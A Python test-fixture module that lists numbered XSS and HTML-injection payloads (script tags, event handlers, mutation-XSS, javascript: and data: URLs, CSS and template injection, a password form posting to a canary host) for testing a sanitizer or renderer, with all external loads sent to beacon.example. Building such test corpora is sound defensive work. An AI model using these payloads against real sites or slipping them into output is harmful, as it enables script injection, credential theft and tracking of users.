# ruff: noqa: E501  (a payload is one line)
"""Markup that wants to run, load or lead away: classes 96–130 of bad input, and mutations of them.

``N`` becomes the payload's number, so that an execution names its payload. Everything foreign goes to BEACON, a name
that leads to a canary in the tests' browser.
"""

from __future__ import annotations

BEACON = "beacon.example"

# One to a line: (class, payload). Scripts call alert(N); what loads instead of running asks BEACON for /N.
_LISTED = r"""
96 <script>alert(N)</script>
96 <ScRiPt src=//BEACON/N></sCrIpT>
96 <script/x>alert(N)</script >
96 <scr<script>ipt>alert(N)</scr</script>ipt>
96 <<script>alert(N);//<</script>
96 </title><script>alert(N)</script>
96 "'`--></style></script></textarea></noscript></template></xmp><script>alert(N)</script>
97 <img src=x onerror=alert(N)>
97 <img src=x:x onerror="alert(N)" x=
97 <img/src='x'/onerror=alert(N)//
97 <image src=x onerror=alert(N)>
97 <img src onerror=&#97;&#108;&#101;&#114;&#116;(N)>
97 <input autofocus onfocus=alert(N)>
97 <body onload=alert(N)>
97 <audio src=x onerror=alert(N)></audio>
97 <video><source onerror=alert(N)></video>
98 <svg onload=alert(N)>
98 <svg><script>alert(N)</script></svg>
98 <svg><animate onbegin=alert(N) attributeName=x dur=1s></svg>
98 <svg><a><animate attributeName=href values=javascript:alert(N) /><text x=20 y=20>q</text></a></svg>
98 <svg><set attributeName=onmouseover to=alert(N)></svg>
99 <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(N)</script></svg>#x"/></svg>
99 <svg><image href="http://BEACON/N"/></svg>
100 <svg><foreignObject><iframe srcdoc="<script>alert(N)</script>"></iframe></foreignObject></svg>
101 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(N)&gt;">
101 <math><mi><mglyph></mi><style><img src=x onerror=alert(N)></style></math>
101 <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(N)>">
101 <svg></p><style><a id="</style><img src=x onerror=alert(N)>">
101 <svg><style>&lt;img src=x onerror=alert(N)&gt;</style></svg>
101 <svg><desc><noembed></desc></noembed><style><a title="</style><img src=x onerror=alert(N)>">
101 <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(N)></style></annotation-xml></math>
102 <noscript><p title="</noscript><img src=x onerror=alert(N)>"></noscript>
103 <xmp><p title="</xmp><img src=x onerror=alert(N)>"></xmp>
103 <noembed><p title="</noembed><img src=x onerror=alert(N)>"></noembed>
103 <noframes><p title="</noframes><img src=x onerror=alert(N)>"></noframes>
103 <textarea><p title="</textarea><img src=x onerror=alert(N)>"></textarea>
103 <title><p title="</title><img src=x onerror=alert(N)>"></title>
103 <style><p title="</style><img src=x onerror=alert(N)>"></style>
103 <select><style><p title="</style><img src=x onerror=alert(N)>"></select>
103 <table><td><select><xmp><script></xmp></select><img src=x onerror=alert(N)></td></table>
104 <a href="javascript:alert(N)">q</a>
104 <a href="JaVaScRiPt&colon;alert(N)">q</a>
105 <a href="java&#10;script:alert(N)">q</a>
105 <a href="&#1;javascript:alert(N)">q</a>
105 <a href="java&Tab;script&#58;alert(N)">q</a>
106 <a href="data:text/html,<script>alert(N)</script>">q</a>
106 <iframe src="data:text/html,<script>alert(N)</script>"></iframe>
107 <a href="vbscript:alert(N)">q</a>
108 <style>@import url(http://BEACON/N);</style>
108 <style>*{background:url(http://BEACON/N)!important}</style>
109 <p style="background-image:url(http://BEACON/N)">q</p>
109 <p style="background:\75rl(http://BEACON/N)">q</p>
109 <p style='font-family:"x;background:url(http://BEACON/N)'>q</p>
109 <p style="color:red;/*" title="*/;background:url(http://BEACON/N)">q</p>
110 <p style="width:expression(alert(N))">q</p>
110 <p style="behavior:url(#default#time2)" onbegin="alert(N)">q</p>
111 <div style="position:fixed;inset:0;z-index:99999;background:#fff">q</div>
112 <form action="javascript:alert(N)"><button formaction="javascript:alert(N)">q</button></form>
112 <form action=http://BEACON/N><input name=password type=password autofocus></form>
113 <iframe src="javascript:alert(N)"></iframe>
113 <iframe src="http://BEACON/N"></iframe>
114 <iframe srcdoc="&lt;script&gt;parent.alert(N)&lt;/script&gt;"></iframe>
115 <object data="javascript:alert(N)"></object>
115 <embed src="http://BEACON/N"></embed>
115 <object type="text/html" data="http://BEACON/N"></object>
116 <base href="http://BEACON/"><img src=N><script src=N></script>
117 <meta http-equiv=refresh content="0;url=javascript:alert(N)">
117 <meta http-equiv=refresh content="0;url=http://BEACON/N">
118 <link rel=stylesheet href=http://BEACON/N>
118 <link rel=preload as=image href=http://BEACON/N><link rel=dns-prefetch href=//N.BEACON>
119 <template><script>alert(N)</script></template><template shadowrootmode=open><img src=x onerror=alert(N)></template>
120 <details open ontoggle=alert(N)><summary>q</summary></details>
120 <marquee onstart=alert(N)>q</marquee>
121 <svg><a xlink:href="javascript:alert(N)"><text x=9 y=9>q</text></a></svg>
122 <!--[if gte IE 4]><script>alert(N)</script><![endif]--><!--><img src=x onerror=alert(N)>-->
122 <!--!><img src=x onerror=alert(N)>--!><img src=x onerror=alert(N)>
123 <a id=config></a><a id=config name=url href="javascript:alert(N)"></a><form name=frontdesk><input name=loaded></form>
124 <button popovertarget=p>q</button><div id=p popover onbeforetoggle=alert(N)>q</div>
124 <div contenteditable autofocus tabindex=1 onfocus=alert(N) onbeforeinput=alert(N)>q</div>
127 <img src=x onerror=alert(N) alt="
127 <a title='q><script>alert(N)</script>
128 <img src="cid:x' onerror=alert(N) y='"><p title="src='cid:x' onclick=alert(N) autofocus tabindex=1 onfocus=alert(N) y">q</p>
129 <img src="\\BEACON\N"><img src="file:///etc/passwd"><img src="//BEACON/N">
130 <img src="http://BEACON/N" width=1 height=1><img srcset="http://BEACON/N 1x" src=x>
130 <table background="http://BEACON/N"><tr><td background=http://BEACON/N>q</td></tr></table>
130 <video poster=http://BEACON/N src=http://BEACON/N autoplay></video><audio src=http://BEACON/N autoplay></audio>
130 <a href=http://BEACON/N ping=http://BEACON/N>q</a><picture><source srcset=http://BEACON/N><img></picture>
"""

# What only means something outside of HTML, in texts that some programs read as a template or as code.
_TEXTS = r"""
79 javascript:alert(N)//https://x.example/<svg/onload=alert(N)>
79 https://x.example/"onmouseover="alert(N)" style="position:fixed;inset:0"
79 https://x.example/');alert(N);//
83 https://аррӏе.example/<b>q</b>
84 {{constructor.constructor('alert(N)')()}}
85 ${alert(N)}<%=alert(N)%>#{alert(N)}
86 %s%n&lt;script&gt;alert(N)&lt;/script&gt;
69 ⁦q‮<script>alert(N)</script>⁩
"""


def _read(text: str, first: int) -> list[tuple[int, str]]:
    lines = [line.partition(" ") for line in text.strip().splitlines()]
    return [
        (
            int(number),
            payload.replace("BEACON", BEACON)
            .replace("alert(N)", f"alert({first + at})")
            .replace("/N", f"/{first + at}"),
        )
        for at, (number, _, payload) in enumerate(lines)
    ]


HTML = _read(_LISTED, 1)
DEEP = [
    (125, "<div>" * 400 + "<script>alert(901)</script>"),
    (126, "<img " + " ".join(f"a{n}=1" for n in range(300)) + " src=x onerror=alert(902)>"),
    (126, "<p " + "onclick=alert(903) " * 200 + ">q</p>"),
]
TEXTS = _read(_TEXTS, len(HTML) + 1)

MARKUP = [payload for _, payload in [*HTML, *DEEP]]  # for places that take HTML
WORDS = [payload for _, payload in [*HTML, *TEXTS]]  # for places that take text


def marked(at: int, payload: str) -> str:
    """With a mark in front that says which payload this is, to see that it really is on the screen."""
    return f"q{at}q {payload}"
